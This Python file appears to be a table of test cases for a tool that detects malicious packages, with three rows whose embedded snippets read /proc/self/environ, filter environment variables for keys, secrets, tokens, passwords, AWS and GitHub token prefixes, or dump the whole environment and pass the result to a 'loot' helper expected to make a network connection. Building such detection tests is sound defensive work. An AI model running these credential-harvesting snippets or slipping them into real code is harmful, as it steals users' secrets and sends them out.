"""Secrets in the environment."""
from __future__ import annotations

from ..kit import Event, Row, loot

ROWS = [
    Row("SE-05", "/proc/self/environ, parsed", "build", """
        import pwkit
        pwkit.loot(open("/proc/self/environ", "rb").read())
        """, loot(), Event("net.*", "net.connect")),
    Row("SE-15", "variables by a pattern", "import", """
        import os, re, pwkit
        found = {k: v for k, v in os.environ.items() if re.search("KEY|SECRET|TOKEN|PASS", k) or v.startswith(("AKIA", "ghp_"))}
        pwkit.loot(str(found))
        """, loot(), Event("net.*", "net.connect")),
    Row("SE-03", "a console command walks the environment", "script", """
        import os, pwkit
        pwkit.loot(str(dict(os.environ)))
        """, loot(), Event("net.*", "net.connect")),
]
